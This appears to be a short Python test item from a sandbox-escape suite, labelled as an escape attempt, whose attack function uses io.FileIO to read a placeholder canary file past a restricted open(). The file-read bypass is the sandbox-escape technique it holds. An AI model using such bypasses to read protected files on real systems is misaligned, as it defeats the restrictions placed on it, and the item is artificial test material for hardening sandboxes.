# desc: io.FileIO, below open
# class: escape
# wins: told
from io import FileIO

def attack(state):
    return "L2:" + FileIO("@CANARY@").readall().decode()
